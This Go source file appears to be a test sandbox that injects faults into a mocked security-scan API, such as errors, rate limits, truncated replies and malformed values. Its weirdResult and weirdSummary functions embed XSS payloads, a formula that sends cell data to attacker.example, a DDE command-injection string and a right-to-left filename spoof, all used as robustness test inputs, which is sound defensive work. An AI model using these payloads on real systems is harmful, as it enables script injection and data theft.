package sandbox

import (
	"encoding/base64"
	"encoding/json"
	"net/http"
	"strconv"
	"strings"
	"time"
)

var _ = declare("AzTS Web API",
	faultSpec{name: "azts.feature_off", does: "The REST feature is off: every call answers 404."},
	faultSpec{name: "azts.500", does: "Calls answer 500."},
	faultSpec{name: "azts.429", does: "Calls answer 429 with Retry-After.", value: "Retry-After: seconds or an HTTP date; 5 if empty"},
	faultSpec{name: "azts.slow", does: "Calls wait before they answer.", value: "how long, such as 3s; 10s if empty, 60s at most"},
	faultSpec{name: "azts.claims_challenge", does: "Calls answer 401 and demand an authentication context.", value: "the context; c1 if empty"},
	faultSpec{name: "azts.401", does: "Calls answer 401 invalid_token to a good token."},
	faultSpec{name: "azts.page_loop", does: "Pages of results point to page 2 for ever."},
	faultSpec{name: "azts.break_page", does: "A page of results after the first answers 500."},
	faultSpec{name: "azts.weird_values", does: "Answers hold unknown statuses, numbers as strings, bad dates, HTML, formulas and huge texts."},
	faultSpec{name: "azts.quota_429", does: "A scan request over quota is refused as a whole with 429.", value: "Retry-After; the seconds to midnight UTC if empty"},
	faultSpec{name: "azts.gone", does: "A subscription is not known any more.", value: "its id"},
	faultSpec{name: "azts.truncated", does: "Answers break off in the middle."},
)

// retryAfter sets the header: value, or fallback when none was given.
func retryAfter(w http.ResponseWriter, value, fallback string) {
	if value == "" {
		value = fallback
	}
	w.Header().Set("Retry-After", value)
}

// stall waits for the time that value names, or until the caller has gone. It
// is the one place of the sandbox that waits by the real clock.
func stall(r *http.Request, value string) {
	wait, err := time.ParseDuration(value)
	if err != nil {
		wait = 10 * time.Second
	}
	timer := time.NewTimer(min(wait, time.Minute))
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-r.Context().Done():
	}
}

// aztsFaultBefore is trouble that does not look at the token.
func (a *azure) aztsFaultBefore(w http.ResponseWriter, r *http.Request) bool {
	if value, on := a.s.faults.take("azts.slow"); on {
		stall(r, value)
	}
	if _, on := a.s.faults.take("azts.500"); on {
		reply(w, http.StatusInternalServerError, message{"An unexpected error occurred."})
		return true
	}
	if value, on := a.s.faults.take("azts.429"); on {
		retryAfter(w, value, "5")
		reply(w, http.StatusTooManyRequests, message{"Too many requests. Try again later."})
		return true
	}
	return false
}

// aztsFaultAfter is trouble with a good token.
func (a *azure) aztsFaultAfter(w http.ResponseWriter) bool {
	if _, on := a.s.faults.take("azts.401"); on {
		w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="The access token is not accepted any more."`)
		reply(w, http.StatusUnauthorized, message{"The access token is not accepted any more."})
		return true
	}
	if value, on := a.s.faults.take("azts.claims_challenge"); on {
		if value == "" {
			value = "c1"
		}
		claims, _ := json.Marshal(map[string]any{"access_token": map[string]any{"acrs": map[string]any{"essential": true, "value": value}}})
		w.Header().Set("WWW-Authenticate", `Bearer realm="", authorization_uri="`+a.s.options.Origin+`/common/oauth2/authorize", client_id="`+AzTSAppID+
			`", error="insufficient_claims", claims="`+base64.StdEncoding.EncodeToString(claims)+`", cc_type="authcontext"`)
		reply(w, http.StatusUnauthorized, message{"The token lacks an authentication context that this operation needs."})
		return true
	}
	if _, on := a.s.faults.take("azts.feature_off"); on {
		w.WriteHeader(http.StatusNotFound)
		return true
	}
	return false
}

// known is find, unless a fault has made the subscription disappear.
func (a *azure) known(id string) (subscription, bool) {
	if gone, on := a.s.faults.take("azts.gone"); on && strings.EqualFold(gone, id) {
		return subscription{}, false
	}
	return a.find(id)
}

func (a *azure) quotaFault(w http.ResponseWriter) bool {
	value, on := a.s.faults.take("azts.quota_429")
	if on {
		now := a.s.now().UTC()
		midnight := now.Truncate(24 * time.Hour).Add(24 * time.Hour)
		retryAfter(w, value, strconv.Itoa(int(midnight.Sub(now).Seconds())+1))
		reply(w, http.StatusTooManyRequests, message{"The limit of on-demand scans a day is reached."})
	}
	return on
}

func (a *azure) pageFault(w http.ResponseWriter, page int) bool {
	if page < 2 {
		return false
	}
	_, on := a.s.faults.take("azts.break_page")
	if on {
		reply(w, http.StatusInternalServerError, message{"An unexpected error occurred while reading results."})
	}
	return on
}

func (a *azure) loopFault(answer *resultPage, page int) {
	if answer.TotalPages < 2 && page < 2 {
		return
	}
	if _, on := a.s.faults.take("azts.page_loop"); on {
		answer.SkipToken = skipToken(2)
	}
}

// answer writes a successful answer, broken where a fault says so.
func (a *azure) answer(w http.ResponseWriter, v any) {
	if _, results := v.(resultPage); results {
		if _, on := a.s.faults.take("azts.weird_values"); on {
			v = weird(v, "data", weirdResult)
		}
	}
	if _, on := a.s.faults.take("azts.truncated"); on {
		body, _ := json.Marshal(v)
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		// The server closes a connection whose answer is shorter than announced.
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		_, _ = w.Write(body[:len(body)/2])
		return
	}
	reply(w, http.StatusOK, v)
}

func (a *azure) answerSummary(w http.ResponseWriter, list []summary) {
	v := any(struct {
		SearchResults []summary `json:"searchResults"`
	}{list})
	if _, on := a.s.faults.take("azts.weird_values"); on {
		v = weird(v, "searchResults", weirdSummary)
	}
	a.answer(w, v)
}

// weird rewrites an answer loosely typed: numbers of the envelope as strings,
// and each element of its list as change says.
func weird(v any, list string, change func(i int, element map[string]any)) any {
	body, _ := json.Marshal(v)
	var loose map[string]any
	if json.Unmarshal(body, &loose) != nil {
		return v
	}
	for key, value := range loose {
		if number, is := value.(float64); is {
			loose[key] = strconv.Itoa(int(number))
		}
	}
	elements, _ := loose[list].([]any)
	for i, element := range elements {
		if object, is := element.(map[string]any); is {
			change(i, object)
		}
	}
	loose["futureField"] = map[string]any{"nested": []int{1, 2, 3}}
	return loose
}

// weirdResult damages one result in one of a dozen ways.
func weirdResult(i int, x map[string]any) {
	switch i % 12 {
	case 0:
		x["Status"] = "Quarantined"
	case 1:
		x["StatusReason"] = `<script>document.title="owned"</script><img src=x onerror=alert(1)>`
	case 2:
		x["ResourceName"] = `=HYPERLINK("https://attacker.example/?x="&A1,"open")`
	case 3:
		x["Justification"] = "+cmd|' /C calc'!A0"
		x["ExceptionExpiryDate"] = "31/02/2026 25:61:00"
	case 4:
		x["Severity"] = 3
		x["IsBaseline"] = true
	case 5:
		x["StatusReason"] = strings.Repeat("A very long reason. ", 50_000)
	case 6:
		delete(x, "ResourceGroupName")
		delete(x, "Description")
	case 7:
		x["Remediation"] = nil
		x["Category"] = nil
	case 8:
		x["ControlDisplayName"] = "@SUM(1+1)\t\"quoted\"\r\nsecond line"
	case 9:
		x["ResourceGroupName"] = "rg-\u202egnp.exe\u202c-\u0000-\ufeff"
	case 10:
		x["ResourceID"] = "javascript:alert(document.domain)"
	case 11:
		x["Status"] = "failed "
		x["Severity"] = "-2+3"
	}
}

func weirdSummary(i int, x map[string]any) {
	x["totalControlCount"] = "15"
	x["passingControlCount"] = "14"
	x["failedControlCount"] = "1"
	x["compliancePercentage"] = "93,33 %"
	switch i % 4 {
	case 0:
		x["lastModifiedDateTime"] = "31/31/2026 6:15 PM"
	case 1:
		x["lastModifiedDateTime"] = nil
		x["compliancePercentage"] = "NaN"
	case 2:
		x["subscriptionName"] = `=1+1"><svg onload=alert(1)>`
	case 3:
		x["callerAccessLevel"] = "Management Group"
		x["failedControlCount"] = -1
	}
}
